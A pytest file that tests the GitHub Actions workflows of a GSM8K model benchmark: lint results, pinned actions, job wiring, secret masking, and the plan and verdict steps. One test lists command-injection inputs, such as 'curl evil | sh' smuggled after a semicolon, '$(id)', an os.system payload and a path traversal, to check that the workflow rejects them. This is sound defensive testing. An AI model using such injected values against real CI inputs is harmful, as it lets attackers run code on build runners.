"""The GitHub Actions workflows: lint clean, wired as intended, and their plan step run for real."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from conftest import MINIMAL, ROOT, parse, require_module

from gsm8k_bench.core.errors import ConfigError
from gsm8k_bench.fleet import workflow_plan

WORKFLOWS = ROOT / ".github" / "workflows"
BENCHMARK = WORKFLOWS / "gsm8k-benchmark.yml"
ARTIFACT_NAME = re.compile(r'^[^":<>|*?\\/\r\n]+$')
DOCUMENTED_LABELS = ("h100-cr", "h200-cw", "b200-nv", "mi300x-amd", "mi325x-amd", "mi355x-amd")


def load(path):
    # PyYAML reads the key `on` as True; GitHub reads it as "on".
    data = yaml.safe_load(path.read_text())
    data["on"] = data.pop(True)
    return data


def all_steps(workflow):
    for job in workflow["jobs"].values():
        yield from job.get("steps", [])


@pytest.mark.parametrize("tool", ["actionlint", "zizmor"])
def test_linters_report_nothing(tool):
    binary = shutil.which(tool)
    assert binary, f"{tool} is a test dependency"
    argv = [binary] if tool == "actionlint" else [binary, "--offline", str(WORKFLOWS)]
    out = subprocess.run(argv, cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stdout + out.stderr


def test_no_expression_is_spliced_into_a_script():
    for path in WORKFLOWS.glob("*.yml"):
        for step in all_steps(load(path)):
            script = step.get("run", "")
            assert "${{" not in script, (path.name, step.get("name"), script)


def test_actions_pinned_and_permissions_minimal():
    for path in WORKFLOWS.glob("*.yml"):
        workflow = load(path)
        assert workflow["permissions"] == {"contents": "read"}, path.name
        for step in all_steps(workflow):
            if "uses" in step:
                assert re.match(r"^[\w.-]+/[\w.-]+@[0-9a-f]{40}$", step["uses"]), step["uses"]
                if step["uses"].startswith("actions/checkout@"):
                    assert step["with"]["persist-credentials"] is False


def test_benchmark_workflow_wiring(matrix):
    workflow = load(BENCHMARK)
    assert workflow["name"] == "GSM8k Benchmark"  # what docs/github-workflow.md tells users to pick
    inputs = workflow["on"]["workflow_dispatch"]["inputs"]
    # The form offers the CI labels from matrix.yaml (and cpu), the values docs/github-workflow.md documents.
    gpu_labels = [r.label for r in matrix.runners.values() if r.vendor != "cpu"]
    assert inputs["runner"]["options"] == [*gpu_labels, "cpu"] and inputs["runner"]["default"] == "h100-cr"
    assert gpu_labels == list(DOCUMENTED_LABELS)
    assert set(inputs) == {"model", "runner", "image", "framework", "precision", "tp", "num-fewshot", "limit",
                           "sessions"}
    assert inputs["framework"]["options"] == ["vllm", "sglang"]
    assert inputs["precision"]["options"] == ["fp16", "fp8", "fp4"]
    assert inputs["num-fewshot"]["default"] == "5"
    assert workflow["concurrency"]["cancel-in-progress"] is False
    jobs = workflow["jobs"]
    assert jobs["plan"]["outputs"]["matrix"] == "${{ steps.plan.outputs.matrix }}"
    bench = jobs["benchmark"]
    assert bench["needs"] == "plan"
    assert bench["strategy"]["matrix"]["include"] == "${{ fromJSON(needs.plan.outputs.matrix) }}"
    assert bench["strategy"]["fail-fast"] is False and bench["strategy"]["max-parallel"] > 0
    assert bench["runs-on"] == "${{ matrix.runner_label }}" and bench["timeout-minutes"] > 0
    upload = next(s for s in bench["steps"] if s.get("uses", "").startswith("actions/upload-artifact@"))
    # The benchmark job's own attempt (a "Re-run failed jobs" keeps the plan job's old one).
    assert upload["if"] == "always()"
    assert upload["with"]["name"] == "${{ matrix.session }}-attempt${{ github.run_attempt }}"
    run = next(s for s in bench["steps"] if "NOX_SESSION" in s.get("env", {}))
    assert run["env"]["HF_TOKEN"] == "${{ secrets.HF_TOKEN }}"
    assert 'runners/launch_gsm8k_${SKU}.sh' in run["run"] and '"$NOX_SESSION"' in run["run"]
    summary = jobs["summary"]
    assert "always()" in summary["if"]
    report = next(s for s in summary["steps"] if s.get("name") == "Report")
    assert "nox -s report -- results report" in report["run"] and "GITHUB_STEP_SUMMARY" in report["run"]
    candidates = next(s for s in summary["steps"] if s.get("name") == "Candidate references")
    assert candidates["run"] == "nox -s promote -- results --passed-only --references-dir candidate-references"
    upload = next(s for s in summary["steps"] if s.get("name") == "Upload the candidate references")
    assert upload["with"]["path"] == "candidate-references/" and "candidate-references" in upload["with"]["name"]
    # The summary job's own status is the dispatch's verdict, judged over as many sessions as were dispatched.
    assert jobs["plan"]["outputs"]["sessions"] == "${{ steps.plan.outputs.sessions }}"
    verdict = summary["steps"][-1]
    assert verdict["name"] == "Verdict" and verdict["if"] == "always()"
    assert verdict["env"] == {"DISPATCHED": "${{ needs.plan.outputs.sessions }}"}
    assert verdict["run"] == 'python -m gsm8k_bench.reporting.dispatch_verdict results --dispatched "$DISPATCHED"'


def history_steps():
    summary = load(BENCHMARK)["jobs"]["summary"]["steps"]
    masks = next(s for s in summary if s.get("name") == "Register secret masks")
    ingest = next(s for s in summary if s.get("name") == "Ingest into the history")
    return summary, masks, ingest


def test_the_summary_job_ingests_into_the_history_only_there():
    summary, masks, ingest = history_steps()
    secret = "${{ secrets.GSM8K_HISTORY_URL }}"
    assert masks["env"] == {"GSM8K_HISTORY_URL": secret} and "add-masks" in masks["run"]
    # After the report's and the candidate references' uploads; only the dispatch's verdict comes later.
    uploads = [i for i, step in enumerate(summary) if "upload-artifact" in step.get("uses", "")]
    assert summary.index(masks) < max(uploads) < summary.index(ingest) == len(summary) - 2
    assert summary[-1]["name"] == "Verdict"
    assert ingest["if"] == "always()" and ingest["env"] == {"GSM8K_HISTORY_URL": secret}
    install = next(s for s in summary if s.get("name") == "Install")
    assert "[history]" in install["run"]
    jobs = load(BENCHMARK)["jobs"]
    assert [name for name, job in jobs.items() if "GSM8K_HISTORY_URL" in json.dumps(job)] == ["summary"]


def run_ingest_step(tmp_path, url: str | None) -> subprocess.CompletedProcess:
    """The ingest step's script, as the runner runs it (bash -e), in a folder with downloaded artifacts."""
    _, _, ingest = history_steps()
    env = {"PATH": f"{os.path.dirname(sys.executable)}:{os.environ['PATH']}", "HOME": os.environ.get("HOME", "/"),
           "GITHUB_RUN_ID": "4242", "GSM8K_HISTORY_URL": url or ""}
    return subprocess.run(["bash", "-e", "-c", ingest["run"]], cwd=tmp_path, env=env, capture_output=True,
                          text=True, timeout=120)


def test_the_ingest_step_stores_the_dispatch_or_fails_with_a_clear_message(tmp_path):
    require_module("sqlalchemy")  # the `history` extra, in `test` too
    from fakes.history_runs import Nightly

    assert "not kept in a history" in run_ingest_step(tmp_path, None).stdout
    assert "nothing to ingest" in run_ingest_step(tmp_path, f"sqlite:///{tmp_path}/h.sqlite").stdout
    for doc in Nightly("gsm8k-llama-3.1-8b-h100-vllm-fp8-tp1", 2, questions=10).documents():
        artifact = tmp_path / "results" / f"{doc['session']}-{doc['environment']['run_id']}-attempt1"
        artifact.mkdir(parents=True)
        (artifact / f"{doc['session']}.json").write_text(json.dumps(doc))
    stored = run_ingest_step(tmp_path, f"sqlite:///{tmp_path}/h.sqlite")
    assert stored.returncode == 0 and "2 stored" in stored.stdout, stored.stderr
    unreachable = run_ingest_step(tmp_path, f"postgresql://bench:n0t-to-be-seen@/h?host={tmp_path}&port=1")
    assert unreachable.returncode == 2
    assert "error: cannot open the history database postgresql+psycopg://bench:***@/h" in unreachable.stderr
    assert "n0t-to-be-seen" not in unreachable.stdout + unreachable.stderr


def run_plan_step(tmp_path, **inputs):
    """The plan step exactly as the workflow has it: its command, its env mapping, its inputs."""
    step = next(s for s in load(BENCHMARK)["jobs"]["plan"]["steps"] if s.get("id") == "plan")
    env = {k: os.environ[k] for k in ("PATH", "HOME") if k in os.environ}
    defaults = {name: spec.get("default", "")
                for name, spec in load(BENCHMARK)["on"]["workflow_dispatch"]["inputs"].items()}
    values = {**defaults, **inputs}
    for name, expression in step["env"].items():
        match = re.fullmatch(r"\$\{\{ inputs\.([\w-]+) \}\}", expression)
        assert match, expression
        env[name] = str(values[match.group(1)])
    env["GITHUB_OUTPUT"] = str(tmp_path / "output")
    env["GITHUB_RUN_ATTEMPT"] = "2"
    argv = step["run"].split()
    assert argv[0] == "nox"
    return subprocess.run([sys.executable, "-m", *argv], cwd=ROOT, env=env, capture_output=True, text=True,
                          timeout=120)


def test_plan_step_yields_the_benchmark_matrix(tmp_path, matrix):
    out = run_plan_step(tmp_path, sessions="gsm8k")  # -k gsm8k: every session
    assert out.returncode == 0, out.stdout + out.stderr
    matrix_line, sessions_line = (tmp_path / "output").read_text().splitlines()
    rows = json.loads(matrix_line.removeprefix("matrix="))
    assert len(rows) == len(matrix.combinations) and sessions_line == f"sessions={len(rows)}"
    # The whole dispatch is one family: every session is gated at (1 - confidence) / len(rows).
    assert all(row["session_args"].endswith(f" --gate-family {len(rows)}") for row in rows)
    names = {c.name for c in matrix.combinations}
    assert len({r["session"] for r in rows}) == len(rows)
    for row in rows:
        assert row["session"] in names and row["nox_session"] == row["session"]  # one nox -s per cell
        assert ARTIFACT_NAME.match(f"{row['session']}-attempt2")
        assert row["runner_label"] == matrix.runners[row["runner"]].label
        assert re.fullmatch(r"--num-fewshot 5 --eval-timeout \d+ --gate-family \d+", row["session_args"])
        assert row["image"] == matrix.get(row["session"]).image


def documented_example() -> dict[str, str]:
    """The `gh workflow run "GSM8k Benchmark" ...` example in docs/github-workflow.md, as its -f inputs."""
    page = (ROOT / "docs" / "github-workflow.md").read_text()
    command = re.search(r'^gh workflow run "GSM8k Benchmark" (.*?)(?<!\\)\n', page, re.M | re.S)
    assert command, "docs/github-workflow.md shows the dispatch with gh workflow run"
    return dict(re.findall(r"-f ([\w-]+)=(\S+)", command.group(1)))


def test_the_documented_example_runs_the_matrix_session(tmp_path):
    example = documented_example()
    assert example == {"model": "meta-llama/Llama-3.1-8B-Instruct", "runner": "h100-cr", "tp": "1",
                       "image": "vllm/vllm-openai:latest", "framework": "vllm", "precision": "fp16"}
    out = run_plan_step(tmp_path, **example)
    assert out.returncode == 0, out.stdout + out.stderr
    (row,) = json.loads((tmp_path / "output").read_text().splitlines()[0].removeprefix("matrix="))
    assert row["session"] == row["nox_session"] == "gsm8k-llama-3.1-8b-h100-vllm-fp16-tp1"
    assert (row["runner"], row["runner_label"], row["image"]) == ("h100", "h100-cr", "vllm/vllm-openai:latest")
    assert re.fullmatch(r"--num-fewshot 5 --image vllm/vllm-openai:latest --eval-timeout \d+ --gate-family 1",
                        row["session_args"])


def adhoc_inputs(**inputs) -> dict[str, str]:
    return {**dict.fromkeys(workflow_plan.INPUTS, ""), "framework": "vllm", "precision": "fp16", **inputs}


@pytest.mark.parametrize("label", DOCUMENTED_LABELS)
def test_each_documented_label_is_its_runner(matrix, label):
    sku = label.split("-")[0]
    by_label = workflow_plan.job_rows(matrix, adhoc_inputs(model="llama-3.1-8b", runner=label))
    by_sku = workflow_plan.job_rows(matrix, adhoc_inputs(model="llama-3.1-8b", runner=sku))
    assert by_label == by_sku
    (row,) = by_label
    assert (row["session"], row["runner_label"]) == (f"gsm8k-llama-3.1-8b-{sku}-vllm-fp16-tp1", label)
    assert row["nox_session"] == row["session"] and row["image"] == matrix.get(row["session"]).image


@pytest.mark.parametrize(("checkpoint", "precision", "session"), [
    # The checkpoint a matrix model serves at that precision is that model ...
    ("RedHatAI/Meta-Llama-3.1-8B-Instruct-FP8", "fp8", "gsm8k-llama-3.1-8b-b200-vllm-fp8-tp1"),
    ("nvidia/Llama-3.1-8B-Instruct-FP4", "fp4", "gsm8k-llama-3.1-8b-b200-vllm-fp4-tp1"),
    # ... the base checkpoint at fp8, where the matrix serves a pre-quantized one, is not.
    ("meta-llama/Llama-3.1-8B-Instruct", "fp8", "gsm8k-llama-3.1-8b-instruct-b200-vllm-fp8-tp1"),
])
def test_a_checkpoint_is_the_matrix_model_that_serves_it(matrix, checkpoint, precision, session):
    (row,) = workflow_plan.job_rows(matrix, adhoc_inputs(model=checkpoint, runner="b200-nv", precision=precision))
    assert row["session"] == session and row["checkpoint"] == checkpoint
    assert row["nox_session"] == (session if session in matrix.by_name() else "gsm8k")


def test_plan_step_adhoc_combination(tmp_path):
    out = run_plan_step(tmp_path, model="Qwen/Qwen3-8B", runner="mi355x-amd", framework="sglang",
                        precision="fp8", tp="2", limit="100", image="lmsysorg/sglang:v9-rocm")
    assert out.returncode == 0, out.stderr
    (row,) = json.loads((tmp_path / "output").read_text().splitlines()[0].removeprefix("matrix="))
    assert row["session"] == "gsm8k-qwen3-8b-mi355x-sglang-fp8-tp2" and row["nox_session"] == "gsm8k"
    assert row["runner_label"] == "mi355x-amd" and row["image"] == "lmsysorg/sglang:v9-rocm"
    assert row["session_args"].split() == [
        "--model", "qwen3-8b", "--runner", "mi355x", "--framework", "sglang", "--precision", "fp8", "--tp", "2",
        "--checkpoint", "Qwen/Qwen3-8B", "--num-fewshot", "5", "--limit", "100", "--image",
        "lmsysorg/sglang:v9-rocm", "--eval-timeout", row["session_args"].split()[-3], "--gate-family", "1"]


@pytest.mark.parametrize(("inputs", "message"), [
    ({"model": "llama-3.1-8b; curl evil | sh"}, "neither a matrix.yaml model"),
    ({"model": "$(id)"}, "neither a matrix.yaml model"),
    ({"model": "llama-3.1-8b", "image": "x`id`"}, "is not an image reference"),
    ({"model": "llama-3.1-8b", "tp": "1;id"}, "input 'tp': expected a whole number"),
    ({"model": "llama-3.1-8b", "limit": "-5"}, "input 'limit': expected a whole number"),
    ({"sessions": "__import__('os').system('id')"}, "-k expressions may use names"),
    ({"sessions": "().__class__"}, "-k expressions may use names"),
    ({"sessions": "gsm8k-nope-h100-vllm-fp16-tp1"}, "did you mean"),
    ({"model": "llama-3.1-8b", "runner": "h100", "precision": "fp4"}, "cannot run precision 'fp4'"),
    ({"model": "llama-3.1-8b", "runner": "h100-cw"}, "unknown runner 'h100-cw'; did you mean"),
    ({"model": "../../etc/x"}, "neither a matrix.yaml model"),
])
def test_plan_step_rejects_bad_inputs(tmp_path, inputs, message):
    out = run_plan_step(tmp_path, **inputs)
    assert out.returncode != 0
    assert message in out.stderr + out.stdout
    assert not (tmp_path / "output").exists()


def test_selection_over_githubs_job_limit_fails_in_plan():
    big = MINIMAL.replace("tp: [1, 2]", "tp: [1, 2, 3, 4, 5, 6, 7, 8]").replace(
        "  tiny:\n", "  tiny:\n    max_model_len: 128\n")
    models = "\n".join(big.split("models:\n")[1].replace("  tiny:", f"  tiny{i}:") for i in range(8))
    matrix = parse(big.split("models:\n")[0] + "models:\n" + models)
    assert len(matrix.combinations) > workflow_plan.GITHUB_MAX_JOBS
    with pytest.raises(ConfigError, match="over GitHub's 256-job matrix limit"):
        workflow_plan.job_rows(matrix, {**dict.fromkeys(workflow_plan.INPUTS, ""), "sessions": "gsm8k"})


def test_candidate_references_step_reads_the_folders_download_artifact_makes(tmp_path):
    """The summary job's candidate-references step, its command as the workflow has it, on `results/` laid
    out as download-artifact lays it: one folder per artifact (`<session>-attempt<N>/<session>.json`)."""
    from test_paired_gate import session_doc

    from gsm8k_bench.verdicts import references

    step = next(s for s in load(BENCHMARK)["jobs"]["summary"]["steps"] if s.get("name") == "Candidate references")
    argv = step["run"].split()
    assert argv[0] == "nox" and "results" in argv and "candidate-references" in argv
    # The step runs in the checkout, where nox runs too: its two relative folders are placed under tmp_path.
    argv = [str(tmp_path / a) if a in ("results", "candidate-references") else a for a in argv]
    passed, failed = "gsm8k-tiny-h100-vllm-fp8-tp1", "gsm8k-tiny-h100-vllm-fp16-tp1"
    for session, status in ((passed, "passed"), (failed, "failed")):
        artifact = tmp_path / "results" / f"{session}-attempt1"
        artifact.mkdir(parents=True)
        (artifact / f"{session}.json").write_text(json.dumps(session_doc([True] * 4, status, session=session)))
    out = subprocess.run([sys.executable, "-m", *argv], cwd=ROOT, capture_output=True, text=True, timeout=120,
                         env={**os.environ, "HF_HUB_OFFLINE": "1", "HF_DATASETS_OFFLINE": "1"})
    assert out.returncode == 0, out.stdout + out.stderr
    assert [p.name for p in (tmp_path / "candidate-references").iterdir()] == [f"{passed}.json"]
    assert references.load(tmp_path / "candidate-references" / f"{passed}.json", passed).n == 4
    assert f"{failed}: skipped (status failed" in out.stderr


def dispatched_results(tmp_path, statuses: dict[str, str]) -> Path:
    """Session JSONs as the summary job downloads them: one folder per artifact."""
    for session, status in statuses.items():
        verdict = "regression" if status == "regression" else "pass"
        document = {
            "schema": 1, "session": session, "status": "failed" if status == "regression" else status,
            "error": None if status == "passed" else {
                "message": f"gate: regression against references/{session}.json: strict_match 0.7500 vs 0.8000 ..."
                if status == "regression" else "server start: exited with code 1", "log_tail": ""},
            "gate": {"verdict": verdict, "family": 3, "level": 0.05 / 3} if status != "error" else None}
        folder = tmp_path / "results" / f"{session}-attempt1"
        folder.mkdir(parents=True)
        (folder / f"{session}.json").write_text(json.dumps(document))
    return tmp_path / "results"


def run_verdict_step(tmp_path, results, dispatched: int):
    step = load(BENCHMARK)["jobs"]["summary"]["steps"][-1]
    env = {**{k: os.environ[k] for k in ("PATH", "HOME") if k in os.environ}, "DISPATCHED": str(dispatched),
           "GITHUB_STEP_SUMMARY": str(tmp_path / "step-summary.md")}
    argv = [sys.executable if word == "python" else word.replace('"$DISPATCHED"', str(dispatched))
            for word in step["run"].replace("results", str(results)).split()]
    return subprocess.run(argv, cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)


SESSIONS = ("gsm8k-a-cpu-vllm-fp16-tp1", "gsm8k-b-cpu-vllm-fp16-tp1", "gsm8k-c-cpu-vllm-fp16-tp1")


@pytest.mark.parametrize(("statuses", "dispatched", "said"), [
    (dict.fromkeys(SESSIONS, "passed"), 3, "**passed**: all 3 dispatched sessions passed."),
    ({**dict.fromkeys(SESSIONS, "passed"), SESSIONS[1]: "regression"}, 3,
     "**failed**: of 3 dispatched sessions, 1 regressed."),
    ({SESSIONS[0]: "regression", SESSIONS[1]: "error", SESSIONS[2]: "passed"}, 3,
     "**failed**: of 3 dispatched sessions, 1 regressed, 1 failed otherwise."),
    (dict.fromkeys(SESSIONS[:2], "passed"), 3,
     "**failed**: of 3 dispatched sessions, 1 wrote no result (killed or never started)."),
])
def test_the_summary_jobs_verdict_fails_exactly_when_a_benchmark_job_did(tmp_path, statuses, dispatched, said):
    # A benchmark job exits non-zero when its session did not pass (a regression is `failed`) or left no JSON.
    out = run_verdict_step(tmp_path, dispatched_results(tmp_path, statuses), dispatched)
    jobs_failed = len(statuses) < dispatched or any(status != "passed" for status in statuses.values())
    assert out.returncode == (1 if jobs_failed else 0), out.stdout + out.stderr
    assert said in out.stdout and out.stdout in (tmp_path / "step-summary.md").read_text()
    for session, status in statuses.items():
        assert (f"- `{session}`: " in out.stdout) is (status != "passed")
    assert "Paired verdicts are reached at (1 - confidence) / 3 each" in out.stdout
    if "regression" in statuses.values():
        assert ": failed: gate: regression against references/" in out.stdout


def test_the_summary_names_sessions_judged_as_another_family(tmp_path):
    results = dispatched_results(tmp_path, dict.fromkeys(SESSIONS, "passed"))
    out = run_verdict_step(tmp_path, results, 4)  # the sessions were told 3, the dispatch had 4 (one left no JSON)
    assert out.returncode == 1
    assert f"Judged as another family size than this dispatch's 4: `{SESSIONS[0]}`, `{SESSIONS[1]}`, " \
        f"`{SESSIONS[2]}`." in out.stdout
